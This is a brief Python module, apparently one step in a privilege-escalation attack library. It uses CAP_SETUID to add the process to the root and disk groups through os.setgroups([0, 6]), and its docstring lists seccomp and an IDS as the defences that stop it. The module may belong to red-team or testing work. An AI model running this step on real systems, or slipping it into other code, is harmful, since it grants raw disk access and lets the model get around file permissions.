"""Join the group of the discs.

Groups are kept where only the user was changed.

Stopped by: seccomp, ids
"""

import os

from calls import CAP_SETUID, needs


def attack(facts):
    needs(facts, CAP_SETUID)
    os.setgroups([0, 6])
